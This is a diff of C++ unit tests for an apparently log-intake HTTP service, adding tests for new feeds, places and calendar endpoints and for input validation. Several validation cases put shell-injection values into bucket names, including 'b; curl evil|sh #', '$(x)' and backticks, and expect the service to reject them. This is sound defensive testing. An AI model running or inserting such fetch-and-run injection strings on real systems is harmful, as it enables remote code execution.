@@ -72,9 +72,12 @@ TEST_F(IntakeTest, IsForThoseWhoMayWriteForAllAccounts) {
         const char* path;
         const char* body;
     } rows[] = {{"GET", "/v1/intake", ""},
+                {"GET", "/v1/intake/feeds", ""},
+                {"GET", "/v1/intake/places", ""},
                 {"GET", "/v1/intake/hours", ""},
                 {"GET", "/v1/intake/files", ""},
                 {"GET", "/v1/intake/gaps", ""},
+                {"GET", "/v1/intake/calendar", ""},
                 {"GET", "/v1/intake/letters", ""},
                 {"GET", "/v1/intake/digests", ""},
                 {"POST", "/v1/intake/seen", R"({"files":[]})"},
@@ -111,16 +114,34 @@ TEST_F(IntakeTest, RefusesWhatMakesNoSense) {
         {"a state of gaps", "GET", "/v1/intake/gaps?state=unread", "", "no parameter state"},
         {"another parameter", "GET", "/v1/intake/hours?bucket=b", "", "no parameter bucket"},
         {"a state of digests", "GET", "/v1/intake/digests?state=gone", "", "the parameters are"},
+        {"a long calendar", "GET",
+         "/v1/intake/calendar?from=2020-01-01T00:00:00Z&to=2026-01-01T00:00:00Z", "",
+         "more than three years"},
         {"sums of a bucket", "GET", "/v1/intake?bucket=b", "", "no parameter bucket"},
+        {"feeds of an account", "GET", "/v1/intake/feeds?account=1", "", "no parameter account"},
+        {"a page of places", "GET", "/v1/intake/places?limit=1", "", "no parameter limit"},
         {"a page of sums", "GET", "/v1/intake?limit=1", "", "no parameter limit"},
         {"no list", "POST", "/v1/intake/seen", "{}", "files"},
         {"no key", "POST", "/v1/intake/seen", R"({"files":[{"bucket":"b"}]})", "key"},
         {"another way", "POST", "/v1/intake/seen",
          R"({"files":[{"bucket":"b","key":"k","how":"dreamt"}]})", "how"},
         {"a short hash", "POST", "/v1/intake/seen",
-         R"({"files":[{"bucket":"b","key":"k","sha256":"00"}]})", "64 hex digits"},
-        {"no digest", "POST", "/v1/intake/digests", R"({"bucket":"b","key":"k","state":"valid"})",
-         "not the key of a digest"},
+         R"({"files":[{"bucket":"logs","key":"k","sha256":"00"}]})", "64 hex digits"},
+        {"no digest", "POST", "/v1/intake/digests",
+         R"({"bucket":"logs","key":"k","state":"valid"})", "not the key of a digest"},
+        {"a sighting in what is no bucket", "POST", "/v1/intake/seen",
+         R"({"files":[{"bucket":"b; curl evil|sh #","key":"k"}]})", "no bucket can be called"},
+        {"a short bucket", "POST", "/v1/intake/seen", R"({"files":[{"bucket":"b","key":"k"}]})",
+         "no bucket can be called"},
+        {"a file in what is no bucket", "POST", "/v1/intake/files?bucket=$(x)&key=k&feed=f", "{}",
+         "no bucket can be called"},
+        {"a digest in what is no bucket", "POST", "/v1/intake/digests",
+         fmt::format(R"({{"bucket":"`x`","key":"{}","state":"valid"}})", digest_key(3)),
+         "no bucket can be called"},
+        {"a digest after one in what is no bucket", "POST", "/v1/intake/digests",
+         fmt::format(R"({{"bucket":"logs","key":"{}","state":"valid","previousBucket":"a b"}})",
+                     digest_key(3)),
+         "no bucket can be called"},
         {"a file of no feed", "POST", "/v1/intake/files?bucket=b", "{}", "are needed"},
         {"a letter without a reason", "POST", "/v1/intake/letters", "{}", "reason"},
         {"an import that is not", "POST", "/v1/intake/files?bucket=b&key=k&import=none", "{}",
@@ -214,6 +235,77 @@ TEST_F(IntakeTest, ShowsWhatDigestsNameAndNobodyHas) {
     const std::string metrics = world_.send("GET", "/metrics").body;
     EXPECT_NE(metrics.find("opentrail_intake_gaps{kind=\"file\"} 1\n"), std::string::npos);
     EXPECT_NE(metrics.find("opentrail_intake_gaps{kind=\"digest\"} 1\n"), std::string::npos);
+}
+
+TEST_F(IntakeTest, ShowsWhichAccountsAndRegionsThereAreFilesOf) {
+    see(key_of(2, 1), "listed");
+    see(key_of(5, 1), "named");
+    take(key_of(2, 1), 1);
+    const json::value all = get("/v1/intake/places");
+    ASSERT_EQ(all.at("places").as_array().size(), 1U);
+    const json::value& place = all.at("places").at(0);
+    EXPECT_EQ(place.at("account").as_string(), "111122223333");
+    EXPECT_EQ(place.at("region").as_string(), "us-east-1");
+    EXPECT_EQ(place.at("hours").as_int64(), 2);
+    EXPECT_EQ(place.at("lackingHours").as_int64(), 1);
+    EXPECT_EQ(place.at("from").as_string(), "2026-01-02T02:00:00Z");
+    EXPECT_EQ(place.at("to").as_string(), "2026-01-02T06:00:00Z");
+    EXPECT_EQ(place.at("files").at("known").as_int64(), 2);
+    EXPECT_EQ(place.at("files").at("named").as_int64(), 1);
+    EXPECT_EQ(place.at("files").at("missing").as_int64(), 1);
+    EXPECT_EQ(place.at("events").at("recorded").as_int64(), 1);
+}
+
+TEST_F(IntakeTest, ShowsFeedsThatAreFollowedHereAndThoseThatHandFilesOver) {
+    EXPECT_TRUE(get("/v1/intake/feeds").at("feeds").as_array().empty());
+    take(key_of(2, 1), 1);
+    take(key_of(2, 1), 1);
+    post("/v1/intake/letters", R"({"feed":"main","reason":"not found"})");
+    world_.service->set_feeds([] { return JsonArray{JsonObject{{"name", "here"}}}; });
+    const json::value all = get("/v1/intake/feeds");
+    ASSERT_EQ(all.at("feeds").as_array().size(), 2U);
+    EXPECT_EQ(all.at("feeds").at(0).at("name").as_string(), "here");
+    const json::value& other = all.at("feeds").at(1);
+    EXPECT_EQ(other.at("name").as_string(), "main");
+    EXPECT_EQ(other.at("kind").as_string(), "worker");
+    EXPECT_EQ(other.at("heard").as_string(), iso8601(world_.clock.now()));
+    EXPECT_EQ(other.at("files").as_int64(), 1);
+    EXPECT_EQ(other.at("known").as_int64(), 1);
+    EXPECT_EQ(other.at("deadLetters").as_int64(), 1);
+    EXPECT_EQ(other.at("events").at("recorded").as_int64(), 1);
+}
+
+TEST_F(IntakeTest, ShowsACalendarOfWhatIsThere) {
+    const auto states = [&](const std::string& query) {
+        std::string text;
+        const json::value page = get("/v1/intake/calendar" + query);
+        for (const json::value& day : page.at("days").as_array()) {
+            text += fmt::format("{}{} {}", text.empty() ? "" : ", ",
+                                std::string_view(day.at("day").as_string()).substr(8),
+                                std::string_view(day.at("state").as_string()));
+        }
+        return text;
+    };
+    EXPECT_EQ(states(""), "");
+    see(key_of(2, 1), "announced");
+    EXPECT_EQ(states(""), "02 lacking");
+    take(key_of(2, 1), 1);
+    EXPECT_EQ(states(""), "02 whole");
+    EXPECT_EQ(states("?from=2026-01-01T00:00:00Z&to=2026-01-04T00:00:00Z"),
+              "01 none, 02 whole, 03 none");
+    EXPECT_EQ(states("?account=444455556666"), "");
+    EXPECT_EQ(states("?region=eu-west-1"), "");
+    const json::value day = get("/v1/intake/calendar").at("days").at(0);
+    EXPECT_EQ(day.at("hours").as_int64(), 1);
+    EXPECT_EQ(day.at("files").at("read").as_int64(), 1);
+    EXPECT_EQ(day.at("events").at("recorded").as_int64(), 1);
+    // A digest that another one names, and that nobody has, may name files that nobody knows of.
+    note_digest(3);
+    EXPECT_EQ(states(""), "02 whole");
+    note_digest(6);
+    EXPECT_EQ(states(""), "02 lacking");
+    EXPECT_EQ(json::serialize(get("/v1/intake/calendar").at("days").at(0).at("digests")),
+              R"({"known":2,"broken":0,"unchecked":0,"missing":1})");
 }
 
 }  // namespace
